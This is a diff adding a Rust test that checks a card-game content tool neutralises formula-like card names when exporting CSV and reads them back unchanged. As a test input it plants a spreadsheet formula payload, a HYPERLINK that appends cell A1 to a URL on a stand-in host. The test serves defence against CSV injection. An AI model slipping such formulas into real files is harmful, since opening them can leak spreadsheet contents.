@@ -573,3 +573,35 @@ fn export_csv_bom_is_for_excel_and_reads_back_the_same() {
     let after = after.unwrap_or_else(|| panic!("{diags:#?}"));
     assert_eq!(defs_by_id(&after), defs_by_id(&before));
 }
+
+#[test]
+fn a_name_a_spreadsheet_would_run_is_exported_as_text_and_read_back_the_same() {
+    // A shared pack's card named like a formula: `crown export csv` writes a cell a
+    // spreadsheet shows as text, and Crown reads it back to the same name.
+    let cards = CARDS_TOML
+        .replace("name = \"Battering Ram\"", "name = \"=1+1\"")
+        .replace("name = \"Scout\"", "name = \"=HYPERLINK(\\\"http://example.invalid/?x=\\\"&A1,\\\"Deny\\\")\"");
+    let dir = project(&[("cards/cards.toml", cards.as_bytes())]);
+    let root = dir.path().to_str().unwrap();
+    let (before, diags) = load(dir.path(), "sheets");
+    let before = before.unwrap_or_else(|| panic!("{diags:#?}"));
+    assert!(
+        diags.iter().filter(|d| d.code == "formula-like-text").count() == 2,
+        "check warns at each name that begins like a formula: {diags:#?}"
+    );
+    assert_eq!(crown(&["--project", root, "export", "csv", "sheets"]), 0);
+    let csv = std::fs::read_to_string(dir.path().join("build/export/sheets/cards.csv")).unwrap();
+    for line in csv.lines().skip(1) {
+        for cell in line.split(',') {
+            assert!(!cell.trim_start_matches('"').starts_with(['=', '+', '@']), "a cell a spreadsheet runs: {line}");
+        }
+    }
+    assert!(csv.contains("'=1+1"), "{csv}");
+    let pack_dir = dir.path().join("content/sheets");
+    std::fs::remove_file(pack_dir.join("cards/cards.toml")).unwrap();
+    std::fs::write(pack_dir.join("cards/cards.csv"), &csv).unwrap();
+    let (after, diags) = load(dir.path(), "sheets");
+    let after = after.unwrap_or_else(|| panic!("{diags:#?}"));
+    assert_eq!(defs_by_id(&after), defs_by_id(&before));
+    assert_eq!(defs_by_id(&after)["ram"].name, "=1+1");
+}
